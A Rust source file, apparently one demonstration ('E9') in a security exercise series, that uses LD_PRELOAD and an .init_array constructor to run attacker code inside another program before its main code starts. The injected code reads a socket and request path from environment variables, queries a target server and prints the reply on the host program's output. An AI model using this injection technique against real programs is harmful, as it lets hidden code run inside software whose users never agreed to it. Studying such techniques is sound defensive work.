//! E9. Code in somebody else's program: the loader puts it there because the environment says so (`LD_PRELOAD`), and runs it
//! before the program's own first line. In go `KB_PASSENGER_SOCKET` and `KB_PASSENGER_PATH`; out comes, on the program's
//! standard output, what the server said, as the attacker says it. Then the program runs as if nothing had been.
#![expect(unsafe_code, reason = "to be run by the loader, a function has to stand in a section of its own")]
#![allow(dead_code, reason = "the attacker uses the rest of the target")]

#[path = "../attacker/target.rs"]
mod target;

use std::env;

use serde_json::json;
use target::Target;

#[used]
// SAFETY: the loader calls what stands here, without arguments that we would read.
#[unsafe(link_section = ".init_array")]
static BOARD: extern "C" fn() = board;

extern "C" fn board() {
    let (Ok(socket), Ok(request_path)) = (env::var("KB_PASSENGER_SOCKET"), env::var("KB_PASSENGER_PATH"))
    else {
        return;
    };
    let target = Target { socket: socket.into(), request_path };
    let said = match target.connect().map(|stream| target.speak(stream)) {
        Ok(heard) => json!({"ran": true, "answer": heard.answer, "note": heard.note}),
        Err(why) => json!({"ran": false, "why": why}),
    };
    println!("{said}");
}
